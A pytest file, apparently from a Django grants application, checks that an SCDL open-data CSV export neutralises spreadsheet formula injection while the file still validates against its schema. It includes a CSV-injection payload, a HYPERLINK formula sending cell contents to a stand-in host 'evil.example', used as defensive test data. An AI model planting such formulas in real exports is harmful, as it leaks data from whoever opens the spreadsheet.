"""The SCDL open-data export is formula-safe: a value a carrier typed that a spreadsheet would run
(« =HYPERLINK(…) », « +33… », « @SUM », a leading tab or CR) is neutralised the way the other
exports neutralise theirs, and the file still validates against the SCDL schema."""

import csv
import io

import pytest

from applications.models import Application
from review.scdl import TEXT_FIELDS, scdl_csv
from tests.factories import CoFundingFactory
from tests.review.test_scdl import call, validate  # noqa: F401 - the fixture and the schema check

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_carrier_typed_values_are_neutralised_and_the_file_stays_valid(call, tmp_path, trigger):  # noqa: F811
    big = Application.objects.get(call=call, requested_amount="60000.00")
    payload = f'{trigger}HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
    big.title = payload  # the project title holds 200 characters at most (PostgreSQL enforces it)
    big.save(update_fields=["title"])
    call.title = "Appel " + "x" * 290  # the call's title (300 at most) is longer than the schema's 256
    call.save(update_fields=["title"])
    big.organisation.name = payload
    big.organisation.save(update_fields=["name"])
    big.cofundings.all().delete()
    CoFundingFactory(application=big, source=payload)

    text = scdl_csv(call)
    report = validate(text, tmp_path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])

    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["montant"] == "60000.00")
    for name in ("nomBeneficiaire", "objet", "attribuantsCofinanceurs"):
        assert row[name].startswith("'" + trigger), name
    assert len(row["dispositif"]) == 256
    # Numbers and dates are never prefixed.
    assert row["montant"] == "60000.00" and row["montantDemande"] == "60000.00"
    assert row["pourcentageSubvention"] == "1.00" and row["dateConvention"][:2] == "20"


def test_every_column_a_person_types_is_in_the_neutralised_list():
    assert set(TEXT_FIELDS) >= {"nomBeneficiaire", "objet", "attribuantsCofinanceurs", "dispositif"}


def test_ordinary_values_are_left_as_typed(call):  # noqa: F811
    rows = list(csv.DictReader(io.StringIO(scdl_csv(call))))
    assert not any(row[name].startswith("'") for row in rows for name in TEXT_FIELDS)
